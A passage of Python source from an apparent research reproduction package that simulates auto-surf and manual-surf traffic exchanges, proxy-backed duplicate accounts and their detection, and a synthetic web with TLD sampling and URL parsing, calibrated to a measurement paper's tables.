Auto-surf and manual-surf exchange simulations with the mechanics the
paper describes: credit economies, one-account-per-IP policies, CAPTCHA
gates, minimum surf timers, self/popular referrals, and paid campaigns
that create traffic bursts.  The nine studied exchanges are available as
calibrated profiles in :mod:`repro.exchanges.roster`.
"""

from .accounts import (
    MEMBER_COUNTRY_WEIGHTS,
    AccountPolicy,
    Member,
    SessionHandle,
    sample_country,
)
from .autosurf import AutoSurfExchange
from .base import ListedSite, StepKind, SurfStep, TrafficExchange
from .campaigns import Campaign, CampaignSchedule
from .captcha import Captcha, CaptchaGate, HumanSolver
from .economy import CreditLedger, PricingPlan
from .manualsurf import ManualSurfExchange
from .proxies import ProxyPool, SessionObservation, SybilDetector, register_sybil_accounts
from .roster import (
    EXCHANGE_PROFILES,
    ExchangeProfile,
    auto_surf_names,
    manual_surf_names,
    profile,
)

__all__ = [
    "AccountPolicy",
    "AutoSurfExchange",
    "Campaign",
    "CampaignSchedule",
    "Captcha",
    "CaptchaGate",
    "CreditLedger",
    "EXCHANGE_PROFILES",
    "ExchangeProfile",
    "HumanSolver",
    "ListedSite",
    "MEMBER_COUNTRY_WEIGHTS",
    "ManualSurfExchange",
    "Member",
    "PricingPlan",
    "ProxyPool",
    "SessionHandle",
    "SessionObservation",
    "StepKind",
    "SurfStep",
    "SybilDetector",
    "TrafficExchange",
    "auto_surf_names",
    "manual_surf_names",
    "profile",
    "register_sybil_accounts",
    "sample_country",
]
