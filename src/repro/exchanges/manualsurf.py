"""Manual-surf exchanges.

Manual-surf services "require frequent manual user input to browse
target websites" — a click plus often a CAPTCHA per page (Figure 1(b)).
Data collection on them is "manual and slow", which is why the paper's
manual-surf crawls stop at a few thousand URLs against the auto-surf
services' hundreds of thousands (Table I).
"""

from __future__ import annotations

from typing import Iterator, Optional

from .accounts import SessionHandle
from .base import SurfStep, TrafficExchange
from .captcha import CaptchaGate, HumanSolver

__all__ = ["ManualSurfExchange"]


class ManualSurfExchange(TrafficExchange):
    """An exchange requiring a human action (and CAPTCHA) per page."""

    kind = "manual-surf"

    def __init__(self, *args, captcha_every: int = 3, **kwargs) -> None:
        super().__init__(*args, **kwargs)
        self.captcha_every = captcha_every
        self.gate = CaptchaGate(self.rng)
        self._since_captcha = 0

    def _surf_seconds(self) -> float:
        # humans dwell beyond the timer: click latency, reading, captcha
        return self.min_surf_seconds + 3.0 + self.rng.random() * 10.0

    def manual_surf(
        self,
        session: SessionHandle,
        steps: int,
        solver: Optional[HumanSolver] = None,
    ) -> Iterator[SurfStep]:
        """Yield up to ``steps`` page views, solving CAPTCHAs on the way.

        A failed CAPTCHA costs a retry (time, not a page view); the
        solver defaults to a human-accuracy profile.
        """
        solver = solver or HumanSolver(rng=self.rng)
        delivered = 0
        while delivered < steps:
            if self.captcha_every and self._since_captcha >= self.captcha_every:
                captcha = self.gate.issue()
                while not self.gate.verify(captcha, solver.solve(captcha)):
                    self._clock += solver.seconds_per_solve
                    captcha = self.gate.issue()
                self._clock += solver.seconds_per_solve
                self._since_captcha = 0
            self._since_captcha += 1
            delivered += 1
            yield self.next_step(session)
