"""Exchange membership and session policy.

Traffic exchanges enforce "only one account per IP address" and suspend
accounts that open multiple parallel sessions (Section II-A, Figure
1(c): Otohits detects multiple sessions).  Members come from a skewed
country pool (India, Pakistan, Egypt, Russia, Mexico, Brazil ... per the
paper), which also feeds the shortener services' top-visitor-country
statistics (Table IV).
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Set

__all__ = ["Member", "SessionHandle", "AccountPolicy", "MEMBER_COUNTRY_WEIGHTS", "sample_country"]

#: Country mix of exchange members (Section II-A names these; USA added
#: because Table IV's top visitor country is most often USA).
MEMBER_COUNTRY_WEIGHTS: Dict[str, float] = {
    "US": 30.0,
    "IN": 14.0,
    "PK": 9.0,
    "EG": 6.0,
    "RU": 8.0,
    "MX": 5.0,
    "BR": 9.0,
    "ID": 5.0,
    "MY": 4.0,
    "IR": 3.0,
    "PT": 3.0,
    "BD": 4.0,
}


def sample_country(rng: random.Random) -> str:
    """Draw a member country from the study's demographic mix."""
    total = sum(MEMBER_COUNTRY_WEIGHTS.values())
    point = rng.random() * total
    for country, weight in MEMBER_COUNTRY_WEIGHTS.items():
        point -= weight
        if point <= 0:
            return country
    return "US"


@dataclass
class Member:
    """One exchange member account."""

    member_id: str
    ip_address: str
    country: str
    credits: float = 0.0
    suspended: bool = False
    #: sites this member listed for traffic
    listed_urls: List[str] = field(default_factory=list)


@dataclass
class SessionHandle:
    """An open surf session."""

    member_id: str
    session_id: int


class AccountPolicy:
    """Registration and session enforcement."""

    def __init__(self, allow_multiple_ips: bool = False) -> None:
        self.allow_multiple_ips = allow_multiple_ips
        self._members: Dict[str, Member] = {}
        self._by_ip: Dict[str, str] = {}
        self._open_sessions: Dict[str, Set[int]] = {}
        self._next_session = 1

    # -- registration -----------------------------------------------------
    def register(self, member_id: str, ip_address: str, country: str) -> Member:
        """Register an account; rejects a second account from one IP."""
        if member_id in self._members:
            raise ValueError("member id %r taken" % member_id)
        if not self.allow_multiple_ips and ip_address in self._by_ip:
            raise ValueError("IP %s already has an account" % ip_address)
        member = Member(member_id=member_id, ip_address=ip_address, country=country)
        self._members[member_id] = member
        self._by_ip[ip_address] = member_id
        return member

    def member(self, member_id: str) -> Member:
        return self._members[member_id]

    @property
    def members(self) -> List[Member]:
        return list(self._members.values())

    # -- sessions --------------------------------------------------------------
    def open_session(self, member_id: str) -> Optional[SessionHandle]:
        """Open a surf session; parallel sessions suspend the account.

        Returns None (and suspends) when the member already has an open
        session — the Figure 1(c) behaviour.
        """
        member = self._members[member_id]
        if member.suspended:
            return None
        open_sessions = self._open_sessions.setdefault(member_id, set())
        if open_sessions:
            member.suspended = True
            open_sessions.clear()
            return None
        handle = SessionHandle(member_id=member_id, session_id=self._next_session)
        self._next_session += 1
        open_sessions.add(handle.session_id)
        return handle

    def close_session(self, handle: SessionHandle) -> None:
        sessions = self._open_sessions.get(handle.member_id, set())
        sessions.discard(handle.session_id)

    def session_open(self, member_id: str) -> bool:
        return bool(self._open_sessions.get(member_id))
