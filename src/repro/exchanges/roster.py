"""The nine studied exchanges, with calibration from Tables I and II.

The study crawled five auto-surf exchanges (10KHits, ManyHits, Smiley
Traffic, SendSurf, Otohits) and four manual-surf exchanges (Cash N Hits,
Easyhits4u, Hit2Hit, Traffic Monsoon).  Each profile here captures that
exchange's *mechanisms* as measured in the paper:

* crawl volume (``urls_crawled``) — Table I column 3,
* self-referral and popular-referral rates — Table I columns 4-5 as a
  fraction of the crawl,
* URL-level malicious fraction among regular URLs — Table I column 8,
* rotation size (distinct domains) and malicious-domain fraction —
  Table II,
* burstiness — manual-surf exchanges deliver much of their malicious
  traffic through paid campaigns (Figure 3(b)); auto-surf traffic is
  steady (Figure 3(a)).  SendSurf is the exception: its extreme 51.9%
  malicious URLs from only 4.3% malicious domains means a few heavily
  boosted malicious sites dominate its rotation.

Profile numbers feed the synthetic-web generator and the exchange
builders; nothing downstream reads them (the pipeline measures).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, Tuple

__all__ = ["ExchangeProfile", "EXCHANGE_PROFILES", "profile", "auto_surf_names", "manual_surf_names"]


@dataclass(frozen=True)
class ExchangeProfile:
    """Calibrated parameters for one exchange."""

    name: str
    host: str
    kind: str  # "auto-surf" | "manual-surf"
    urls_crawled: int          # Table I: # URLs crawled (full study scale)
    self_referral_rate: float  # Table I: self referrals / crawled
    popular_referral_rate: float
    malicious_url_rate: float  # Table I: malicious / regular
    domains: int               # Table II: # domains
    malicious_domain_rate: float  # Table II: % malware domains
    min_surf_seconds: float = 20.0
    #: fraction of malicious traffic delivered through burst campaigns
    campaign_share: float = 0.0
    allow_multiple_ips: bool = False

    @property
    def is_auto(self) -> bool:
        return self.kind == "auto-surf"

    def scaled_urls(self, scale: float) -> int:
        return max(50, int(self.urls_crawled * scale))

    def scaled_domains(self, scale: float) -> int:
        """Rotation size at a crawl scale.

        Distinct-domain counts grow sublinearly with crawl size
        (species accumulation); we use a square-root law capped at the
        full-study count.
        """
        import math

        scaled = int(self.domains * math.sqrt(min(scale, 1.0)))
        return max(20, min(scaled, self.domains))


EXCHANGE_PROFILES: Tuple[ExchangeProfile, ...] = (
    # -- auto-surf (Table I rows 1-5) --
    ExchangeProfile(
        name="10KHits", host="www.10khits.com", kind="auto-surf",
        urls_crawled=218_353, self_referral_rate=13_663 / 218_353,
        popular_referral_rate=24_328 / 218_353, malicious_url_rate=0.338,
        domains=4_823, malicious_domain_rate=0.150, min_surf_seconds=51.0,
    ),
    ExchangeProfile(
        name="ManyHits", host="manyhit.com", kind="auto-surf",
        urls_crawled=178_939, self_referral_rate=10_860 / 178_939,
        popular_referral_rate=20_890 / 178_939, malicious_url_rate=0.146,
        domains=3_705, malicious_domain_rate=0.141, min_surf_seconds=25.0,
    ),
    ExchangeProfile(
        name="Smiley Traffic", host="www.smileytraffic.com", kind="auto-surf",
        urls_crawled=244_677, self_referral_rate=15_789 / 244_677,
        popular_referral_rate=12_847 / 244_677, malicious_url_rate=0.087,
        domains=3_367, malicious_domain_rate=0.095, min_surf_seconds=20.0,
    ),
    ExchangeProfile(
        name="SendSurf", host="www.sendsurf.com", kind="auto-surf",
        urls_crawled=246_967, self_referral_rate=17_537 / 246_967,
        popular_referral_rate=19_174 / 246_967, malicious_url_rate=0.519,
        domains=1_460, malicious_domain_rate=0.043, min_surf_seconds=15.0,
        # few malicious domains, majority-malicious traffic: heavy boosts
        campaign_share=0.30,
    ),
    ExchangeProfile(
        name="Otohits", host="www.otohits.net", kind="auto-surf",
        urls_crawled=96_316, self_referral_rate=52_167 / 96_316,
        popular_referral_rate=9_336 / 96_316, malicious_url_rate=0.074,
        domains=2_106, malicious_domain_rate=0.139, min_surf_seconds=30.0,
    ),
    # -- manual-surf (Table I rows 6-9) --
    ExchangeProfile(
        name="Cash N Hits", host="www.cashnhits.com", kind="manual-surf",
        urls_crawled=4_795, self_referral_rate=416 / 4_795,
        popular_referral_rate=298 / 4_795, malicious_url_rate=0.102,
        domains=614, malicious_domain_rate=0.171, min_surf_seconds=20.0,
        campaign_share=0.6,
    ),
    ExchangeProfile(
        name="Easyhits4u", host="www.easyhits4u.com", kind="manual-surf",
        urls_crawled=4_638, self_referral_rate=703 / 4_638,
        popular_referral_rate=694 / 4_638, malicious_url_rate=0.104,
        domains=489, malicious_domain_rate=0.143, min_surf_seconds=15.0,
        campaign_share=0.55,
    ),
    ExchangeProfile(
        name="Hit2Hit", host="hit2hit.com", kind="manual-surf",
        urls_crawled=3_355, self_referral_rate=651 / 3_355,
        popular_referral_rate=211 / 3_355, malicious_url_rate=0.085,
        domains=418, malicious_domain_rate=0.163, min_surf_seconds=20.0,
        campaign_share=0.5,
    ),
    ExchangeProfile(
        name="Traffic Monsoon", host="trafficmonsoon.com", kind="manual-surf",
        urls_crawled=5_047, self_referral_rate=540 / 5_047,
        popular_referral_rate=549 / 5_047, malicious_url_rate=0.122,
        domains=466, malicious_domain_rate=0.184, min_surf_seconds=10.0,
        campaign_share=0.7,
    ),
)

_BY_NAME: Dict[str, ExchangeProfile] = {p.name: p for p in EXCHANGE_PROFILES}


def profile(name: str) -> ExchangeProfile:
    """Look up a profile by exchange name."""
    return _BY_NAME[name]


def auto_surf_names() -> Tuple[str, ...]:
    return tuple(p.name for p in EXCHANGE_PROFILES if p.is_auto)


def manual_surf_names() -> Tuple[str, ...]:
    return tuple(p.name for p in EXCHANGE_PROFILES if not p.is_auto)
