"""Traffic exchange core engine.

Implements the mechanics common to auto-surf and manual-surf exchanges
(Section II-A): a rotation of member-listed sites with weights, a
minimum surf timer per page, self-referrals (the exchange opening its
own homepage in the surf iframe), popular referrals (pointing surfers at
Google/Facebook/YouTube for bogus content views), paid-campaign windows
that override the rotation, and credit accounting.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from typing import List, Optional, Sequence

from .accounts import AccountPolicy, SessionHandle, sample_country
from .campaigns import Campaign, CampaignSchedule
from .economy import CreditLedger, PricingPlan

__all__ = ["ListedSite", "SurfStep", "StepKind", "TrafficExchange"]


class StepKind:
    """What a surf step pointed the member's browser at."""

    SELF_REFERRAL = "self_referral"
    POPULAR_REFERRAL = "popular_referral"
    MEMBER_SITE = "member_site"
    CAMPAIGN = "campaign"


@dataclass
class ListedSite:
    """A member-listed site in the rotation."""

    url: str
    weight: float = 1.0
    owner_id: str = ""


@dataclass
class SurfStep:
    """One delivered page view."""

    index: int
    url: str
    kind: str
    surf_seconds: float
    timestamp: float  # seconds since crawl start


class TrafficExchange:
    """Base class: the rotation engine.

    Subclasses (:class:`AutoSurfExchange`, :class:`ManualSurfExchange`)
    fix the surf modality; the rotation logic lives here.
    """

    kind = "abstract"

    def __init__(
        self,
        name: str,
        host: str,
        rng: random.Random,
        min_surf_seconds: float = 20.0,
        self_referral_rate: float = 0.07,
        popular_referral_rate: float = 0.10,
        popular_urls: Sequence[str] = (),
        pricing: Optional[PricingPlan] = None,
        allow_multiple_ips: bool = False,
    ) -> None:
        self.name = name
        self.host = host
        self.rng = rng
        self.min_surf_seconds = min_surf_seconds
        self.self_referral_rate = self_referral_rate
        self.popular_referral_rate = popular_referral_rate
        self.popular_urls: List[str] = list(popular_urls) or ["http://www.google.com/"]
        self.accounts = AccountPolicy(allow_multiple_ips=allow_multiple_ips)
        self.ledger = CreditLedger(pricing or PricingPlan())
        self.campaigns = CampaignSchedule()
        self.rotation: List[ListedSite] = []
        self._weights_dirty = True
        self._cumulative: List[float] = []
        self._step_counter = 0
        self._clock = 0.0

    # -- rotation management -----------------------------------------------
    @property
    def homepage_url(self) -> str:
        return "http://%s/" % self.host

    def list_site(self, url: str, weight: float = 1.0, owner_id: str = "") -> ListedSite:
        """Add a member's site to the rotation."""
        if weight <= 0:
            raise ValueError("weight must be positive")
        listed = ListedSite(url=url, weight=weight, owner_id=owner_id)
        self.rotation.append(listed)
        self._weights_dirty = True
        return listed

    def purchase_campaign(
        self, target_url: str, visits: int, start_step: Optional[int] = None,
        intensity: float = 0.85,
    ) -> Campaign:
        """Buy a traffic burst for ``target_url`` (Figure 3 bursts)."""
        campaign = Campaign(
            target_url=target_url,
            start_step=self._step_counter if start_step is None else start_step,
            visits_purchased=visits,
            intensity=intensity,
        )
        self.campaigns.add(campaign)
        return campaign

    def _rebuild_weights(self) -> None:
        self._cumulative = []
        total = 0.0
        for listed in self.rotation:
            total += listed.weight
            self._cumulative.append(total)
        self._weights_dirty = False

    def _pick_member_site(self) -> Optional[ListedSite]:
        if not self.rotation:
            return None
        if self._weights_dirty:
            self._rebuild_weights()
        import bisect

        point = self.rng.random() * self._cumulative[-1]
        index = bisect.bisect_right(self._cumulative, point)
        return self.rotation[min(index, len(self.rotation) - 1)]

    # -- surfing -------------------------------------------------------------
    def register_member(self, member_id: str, ip_address: str,
                        country: Optional[str] = None):
        return self.accounts.register(
            member_id, ip_address, country or sample_country(self.rng)
        )

    def open_session(self, member_id: str) -> Optional[SessionHandle]:
        return self.accounts.open_session(member_id)

    def next_step(self, session: SessionHandle) -> SurfStep:
        """Produce the next page view for an open session."""
        index = self._step_counter
        self._step_counter += 1
        surf_seconds = self._surf_seconds()
        self._clock += surf_seconds

        campaign_url = self.campaigns.pick_url(index, self.rng)
        if campaign_url is not None:
            url, kind = campaign_url, StepKind.CAMPAIGN
        else:
            roll = self.rng.random()
            if roll < self.self_referral_rate:
                url, kind = self.homepage_url, StepKind.SELF_REFERRAL
            elif roll < self.self_referral_rate + self.popular_referral_rate:
                url, kind = self.rng.choice(self.popular_urls), StepKind.POPULAR_REFERRAL
            else:
                listed = self._pick_member_site()
                if listed is None:
                    url, kind = self.homepage_url, StepKind.SELF_REFERRAL
                else:
                    url, kind = listed.url, StepKind.MEMBER_SITE
                    if listed.owner_id:
                        self.ledger.charge_visit(listed.owner_id)

        self.ledger.earn_surf(session.member_id, surf_seconds, self.min_surf_seconds)
        return SurfStep(
            index=index, url=url, kind=kind, surf_seconds=surf_seconds, timestamp=self._clock
        )

    def _surf_seconds(self) -> float:
        """Dwell time for one page; subclasses refine."""
        return self.min_surf_seconds

    # -- metadata ----------------------------------------------------------
    @property
    def steps_delivered(self) -> int:
        return self._step_counter

    def __repr__(self) -> str:  # pragma: no cover - debug aid
        return "%s(%r, %d listed)" % (type(self).__name__, self.name, len(self.rotation))
