"""Proxy/VPN evasion of the one-account-per-IP policy (Section II-A).

"To ensure a diverse IP pool, traffic exchanges enforce the use of only
one account per IP address. ... Users can use proxies and VPN services
to acquire multiple IP addresses and increase their earnings."

This module models both sides of that arms race:

* :class:`ProxyPool` — a rotating set of exit IPs a greedy member rents,
* :func:`register_sybil_accounts` — the member's play: many accounts,
  each behind a different exit IP,
* :class:`SybilDetector` — the exchange's counter: correlating accounts
  whose surfing is machine-identical (synchronized session starts,
  identical dwell profiles, shared listed sites).
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import Dict, Iterable, List, Optional, Sequence, Set, Tuple

from .accounts import Member
from .base import TrafficExchange

__all__ = ["ProxyPool", "register_sybil_accounts", "SessionObservation", "SybilDetector"]


@dataclass
class ProxyPool:
    """A rented pool of proxy/VPN exit addresses."""

    rng: random.Random
    size: int = 20
    _addresses: List[str] = field(default_factory=list)
    _next: int = 0

    def __post_init__(self) -> None:
        seen: Set[str] = set()
        while len(self._addresses) < self.size:
            address = "%d.%d.%d.%d" % (
                self.rng.randrange(1, 224), self.rng.randrange(256),
                self.rng.randrange(256), self.rng.randrange(1, 255),
            )
            if address not in seen:
                seen.add(address)
                self._addresses.append(address)

    def next_exit(self) -> str:
        """Rotate to the next exit IP."""
        address = self._addresses[self._next % len(self._addresses)]
        self._next += 1
        return address

    @property
    def addresses(self) -> Sequence[str]:
        return tuple(self._addresses)


def register_sybil_accounts(
    exchange: TrafficExchange,
    pool: ProxyPool,
    count: int,
    owner_tag: str = "sybil",
    listed_url: Optional[str] = None,
) -> List[Member]:
    """Register ``count`` accounts, each behind a fresh proxy exit.

    Every account lists the same member URL (the whole point: multiply
    the credits flowing to one site).  The per-IP policy passes because
    each registration arrives from a distinct exit address.
    """
    members: List[Member] = []
    for index in range(count):
        member = exchange.register_member(
            "%s-%03d" % (owner_tag, index), pool.next_exit()
        )
        if listed_url:
            member.listed_urls.append(listed_url)
            exchange.list_site(listed_url, weight=1.0, owner_id=member.member_id)
        members.append(member)
    return members


@dataclass
class SessionObservation:
    """What the exchange logs about one member's surf session."""

    member_id: str
    session_start: float
    dwell_seconds: Sequence[float]
    listed_urls: Tuple[str, ...] = ()

    @property
    def dwell_signature(self) -> Tuple[int, ...]:
        """Quantized dwell profile — bots produce identical signatures."""
        return tuple(int(d * 10) for d in self.dwell_seconds[:20])


class SybilDetector:
    """Exchange-side correlation of proxy-backed duplicate accounts.

    Groups accounts whose behaviour is machine-identical:

    * identical quantized dwell signatures (same bot, same timer),
    * near-synchronized session starts,
    * the same listed URL across many accounts (the payout giveaway).
    """

    def __init__(self, start_sync_seconds: float = 5.0,
                 min_cluster_size: int = 3) -> None:
        self.start_sync_seconds = start_sync_seconds
        self.min_cluster_size = min_cluster_size

    def cluster(self, observations: Iterable[SessionObservation]) -> List[List[str]]:
        """Group member ids into suspected sybil clusters."""
        groups: Dict[Tuple, List[SessionObservation]] = {}
        for obs in observations:
            groups.setdefault(obs.dwell_signature, []).append(obs)

        clusters: List[List[str]] = []
        for signature_group in groups.values():
            if len(signature_group) < self.min_cluster_size:
                continue
            # split by session-start synchronization windows
            ordered = sorted(signature_group, key=lambda o: o.session_start)
            bucket: List[SessionObservation] = [ordered[0]]
            for obs in ordered[1:]:
                if obs.session_start - bucket[-1].session_start <= self.start_sync_seconds:
                    bucket.append(obs)
                else:
                    if len(bucket) >= self.min_cluster_size:
                        clusters.append([o.member_id for o in bucket])
                    bucket = [obs]
            if len(bucket) >= self.min_cluster_size:
                clusters.append([o.member_id for o in bucket])

        # shared-listing correlation: many accounts pushing one URL
        by_url: Dict[str, List[str]] = {}
        for obs in observations if isinstance(observations, list) else []:
            for listed in obs.listed_urls:
                by_url.setdefault(listed, []).append(obs.member_id)
        for url, member_ids in by_url.items():
            if len(set(member_ids)) >= self.min_cluster_size:
                cluster = sorted(set(member_ids))
                if cluster not in clusters:
                    clusters.append(cluster)
        return clusters

    def suspend_clusters(self, exchange: TrafficExchange,
                         clusters: Iterable[Iterable[str]]) -> int:
        """Suspend every member in the given clusters; returns the count."""
        suspended = 0
        for cluster in clusters:
            for member_id in cluster:
                try:
                    member = exchange.accounts.member(member_id)
                except KeyError:
                    continue
                if not member.suspended:
                    member.suspended = True
                    suspended += 1
        return suspended
