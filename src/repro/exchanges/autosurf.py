"""Auto-surf exchanges.

Auto-surf services "use automated procedures to browse target websites
without requiring any input from users" — new sites open automatically,
usually in an iframe, after a countdown (Figure 1(a): 10KHits' timer).
Traffic is therefore high-volume, steady, and "gradual and predictable"
(Figure 3(a)'s smooth near-linear curves).
"""

from __future__ import annotations

from typing import Iterator, List

from .accounts import SessionHandle
from .base import SurfStep, TrafficExchange

__all__ = ["AutoSurfExchange"]


class AutoSurfExchange(TrafficExchange):
    """An exchange that rotates sites automatically."""

    kind = "auto-surf"

    def _surf_seconds(self) -> float:
        # the timer counts down the exact minimum; small jitter for page load
        return self.min_surf_seconds + self.rng.random() * 2.0

    def auto_surf(self, session: SessionHandle, steps: int) -> Iterator[SurfStep]:
        """Yield ``steps`` automatic page views (the crawl's main loop)."""
        for _ in range(steps):
            yield self.next_step(session)

    def surf_batch(self, session: SessionHandle, steps: int) -> List[SurfStep]:
        return list(self.auto_surf(session, steps))
