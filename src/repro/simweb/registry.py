"""The synthetic web: a registry of every site, resolvable by host.

The HTTP simulation layer (:mod:`repro.httpsim`) serves requests out of
this registry; the exchanges draw their member-site rosters from it; the
analysis layer queries it for ground truth when evaluating detectors.
"""

from __future__ import annotations

import random
from typing import Dict, Iterator, List, Optional

from .shortener import ShortenerDirectory
from .site import Site
from .url import Url

__all__ = ["WebRegistry"]


class WebRegistry:
    """All sites and shortening services of the synthetic web."""

    def __init__(self, rng: Optional[random.Random] = None) -> None:
        self._sites: Dict[str, Site] = {}
        self.shorteners = ShortenerDirectory(rng or random.Random(0))

    # -- registration -----------------------------------------------------
    def add(self, site: Site) -> Site:
        if site.host in self._sites:
            raise ValueError("host %r already registered" % site.host)
        self._sites[site.host] = site
        return site

    # -- lookup --------------------------------------------------------------
    def site(self, host: str) -> Optional[Site]:
        return self._sites.get(host)

    def site_for_url(self, url: Url) -> Optional[Site]:
        return self._sites.get(url.host)

    def __contains__(self, host: str) -> bool:
        return host in self._sites

    def __len__(self) -> int:
        return len(self._sites)

    def __iter__(self) -> Iterator[Site]:
        return iter(self._sites.values())

    @property
    def hosts(self) -> List[str]:
        return list(self._sites)

    def sites(self, malicious: Optional[bool] = None) -> List[Site]:
        """All sites, optionally filtered by ground-truth maliciousness."""
        if malicious is None:
            return list(self._sites.values())
        return [s for s in self._sites.values() if s.malicious == malicious]

    # -- ground truth helpers (evaluation/tests only) ------------------------
    def truth_for_url(self, url: Url) -> Optional[bool]:
        """Ground-truth verdict for a URL, or None for unknown hosts.

        A URL is malicious when its page/resource artifact is, or when the
        whole site is (blacklisted hosts poison everything they serve).
        """
        if self.shorteners.is_short_host(url.host):
            return None  # verdict depends on the destination
        site = self._sites.get(url.host)
        if site is None:
            return None
        if site.malicious and site.truth.family is not None and not site.pages:
            return True
        page, resource = site.lookup(url.path)
        if page is not None:
            return page.truth.malicious or site.malicious
        if resource is not None:
            return resource.truth.malicious or site.malicious
        return site.malicious
