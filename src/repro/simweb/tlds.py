"""Top-level domain catalog and sampling weights.

Figure 6 of the paper reports the TLD distribution of *malicious* URLs:
``.com`` 70%, ``.net`` 22%, ``.de`` 2%, ``.org`` 1%, and 5% "others"
(URL shortening services and country-specific domains).  The synthetic
web generator samples domain TLDs from weight tables derived from that
distribution so the analysis pipeline reproduces the figure organically.
"""

from __future__ import annotations

import random
from typing import Dict, List, Sequence, Tuple

__all__ = [
    "MALICIOUS_TLD_WEIGHTS",
    "BENIGN_TLD_WEIGHTS",
    "OTHER_TLDS",
    "WeightedChoice",
]

#: TLDs used by malicious domains (Figure 6 shape).  The "others" 5% is
#: split across country-specific TLDs and free-hosting style suffixes the
#: paper names in Section IV-A3 (esy.es, atw.hu, yadro.ru, 380tl.com ...).
MALICIOUS_TLD_WEIGHTS: Dict[str, float] = {
    "com": 70.0,
    "net": 22.0,
    "de": 2.0,
    "org": 1.0,
    # the 5% "others" slice
    "es": 1.1,
    "hu": 0.8,
    "ru": 0.9,
    "info": 0.7,
    "biz": 0.5,
    "ooo": 0.4,
    "br": 0.6,
}

#: TLDs for benign domains — a flatter mix typical of the broader web.
BENIGN_TLD_WEIGHTS: Dict[str, float] = {
    "com": 52.0,
    "net": 12.0,
    "org": 9.0,
    "de": 4.0,
    "ru": 4.0,
    "info": 3.0,
    "co.uk": 3.0,
    "com.br": 3.0,
    "io": 2.5,
    "in": 2.5,
    "es": 2.0,
    "fr": 1.5,
    "it": 1.5,
}

#: TLDs listed only under the "others" slice in Figure 6.
OTHER_TLDS: Tuple[str, ...] = ("es", "hu", "ru", "info", "biz", "ooo", "br")


class WeightedChoice:
    """Reusable weighted sampler over a fixed catalog.

    Precomputes cumulative weights once; sampling is O(log n) via
    :func:`random.Random.choices` machinery replicated with bisect.
    """

    def __init__(self, weights: Dict[str, float]):
        if not weights:
            raise ValueError("weights must be non-empty")
        self._items: List[str] = list(weights)
        self._cumulative: List[float] = []
        total = 0.0
        for item in self._items:
            weight = weights[item]
            if weight < 0:
                raise ValueError("negative weight for %r" % item)
            total += weight
            self._cumulative.append(total)
        if total <= 0:
            raise ValueError("total weight must be positive")
        self._total = total

    def sample(self, rng: random.Random) -> str:
        """Draw one item according to the weights."""
        import bisect

        point = rng.random() * self._total
        index = bisect.bisect_right(self._cumulative, point)
        return self._items[min(index, len(self._items) - 1)]

    def sample_many(self, rng: random.Random, count: int) -> Sequence[str]:
        return [self.sample(rng) for _ in range(count)]

    @property
    def items(self) -> Sequence[str]:
        return tuple(self._items)
