"""URL parsing, normalization, and manipulation.

The analysis pipeline in the paper operates on raw URL strings logged by
the crawler (via Firebug/NetExport).  This module provides a small,
dependency-free URL type with the operations the pipeline needs:

* parsing and serialization round-trips,
* normalization (case-folding scheme/host, default-port elision),
* query-string access,
* relative reference resolution (``join``),
* registrable-domain extraction (for per-domain statistics, Table II),
* top-level-domain extraction (for Figure 6).

It intentionally implements only the subset of RFC 3986 exercised by the
study; exotic inputs raise :class:`UrlError` rather than guessing.
"""

from __future__ import annotations

from dataclasses import dataclass, replace
from typing import Dict, List, Optional, Tuple

__all__ = ["Url", "UrlError", "parse_query", "encode_query"]

_DEFAULT_PORTS = {"http": 80, "https": 443, "ftp": 21}

# Multi-label public suffixes relevant to the study's data set.  The live
# study used full URLs from the wild; our synthetic web only mints domains
# under these suffixes, so the list is exact for our purposes.
_MULTI_LABEL_SUFFIXES = {
    "co.uk",
    "com.br",
    "com.au",
    "co.in",
    "com.pk",
    "net.ru",
    "org.uk",
    "k12.or.us",
    "blogspot.com.br",
}

_SCHEME_CHARS = set("abcdefghijklmnopqrstuvwxyz0123456789+-.")
_HEX = "0123456789ABCDEF"


class UrlError(ValueError):
    """Raised when a string cannot be interpreted as a URL."""


def _percent_encode(text: str, safe: str = "") -> str:
    out = []
    for ch in text:
        if ch.isalnum() or ch in "-._~" or ch in safe:
            out.append(ch)
        else:
            for byte in ch.encode("utf-8"):
                out.append("%" + _HEX[byte >> 4] + _HEX[byte & 0xF])
    return "".join(out)


def _percent_decode(text: str) -> str:
    out = bytearray()
    i = 0
    while i < len(text):
        ch = text[i]
        if ch == "%" and i + 2 < len(text) + 1 and i + 2 <= len(text) - 1 + 1:
            hex_pair = text[i + 1 : i + 3]
            if len(hex_pair) == 2 and all(c in "0123456789abcdefABCDEF" for c in hex_pair):
                out.append(int(hex_pair, 16))
                i += 3
                continue
        if ch == "+":
            out.append(0x20)
        else:
            out.extend(ch.encode("utf-8"))
        i += 1
    return out.decode("utf-8", errors="replace")


def parse_query(query: str) -> List[Tuple[str, str]]:
    """Parse a query string into an ordered list of (key, value) pairs."""
    pairs: List[Tuple[str, str]] = []
    if not query:
        return pairs
    for part in query.split("&"):
        if not part:
            continue
        if "=" in part:
            key, _, value = part.partition("=")
        else:
            key, value = part, ""
        pairs.append((_percent_decode(key), _percent_decode(value)))
    return pairs


def encode_query(pairs: List[Tuple[str, str]]) -> str:
    """Serialize (key, value) pairs into a query string."""
    return "&".join(
        "%s=%s" % (_percent_encode(k), _percent_encode(v)) if v else _percent_encode(k)
        for k, v in pairs
    )


@dataclass(frozen=True)
class Url:
    """An immutable parsed URL.

    Construct with :meth:`Url.parse` rather than directly; the constructor
    performs no validation.
    """

    scheme: str = "http"
    host: str = ""
    port: Optional[int] = None
    path: str = "/"
    query: str = ""
    fragment: str = ""

    # ------------------------------------------------------------------
    # Construction
    # ------------------------------------------------------------------
    @classmethod
    def parse(cls, raw: str) -> "Url":
        """Parse an absolute http(s)/ftp URL string.

        Raises :class:`UrlError` for strings without a scheme+authority.
        """
        if not isinstance(raw, str) or not raw.strip():
            raise UrlError("empty URL")
        text = raw.strip()

        scheme, sep, rest = text.partition("://")
        if not sep:
            raise UrlError("URL %r has no scheme" % raw)
        scheme = scheme.lower()
        if not scheme or any(c not in _SCHEME_CHARS for c in scheme):
            raise UrlError("URL %r has an invalid scheme" % raw)

        rest, _, fragment = rest.partition("#")
        rest, _, query = rest.partition("?")

        slash = rest.find("/")
        if slash == -1:
            authority, path = rest, "/"
        else:
            authority, path = rest[:slash], rest[slash:]
